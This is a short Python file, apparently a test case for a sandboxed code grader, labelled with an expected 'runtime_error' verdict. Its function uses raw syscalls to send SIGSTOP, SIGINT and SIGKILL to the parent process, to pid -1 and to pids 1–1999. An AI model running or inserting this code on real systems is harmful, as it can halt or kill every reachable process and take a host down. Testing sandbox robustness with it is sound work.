# Signals every process and thread that there may be, by every call.
# verdict: incorrect runtime_error
import ctypes
import os
import signal


def f(x):
    syscall = ctypes.CDLL(None).syscall
    information = ctypes.create_string_buffer(128)
    me = os.getpid()
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGKILL):
        for pid in [os.getppid(), -1, 0, *range(1, 2000)]:
            if pid == me:
                continue
            syscall(62, pid, number)
            syscall(200, pid, number)
            syscall(234, pid, pid, number)
            syscall(129, pid, number, information)
            fd = syscall(434, pid, 0)
            if fd >= 0:
                syscall(424, fd, number, None, 0)
                os.close(fd)
    return None
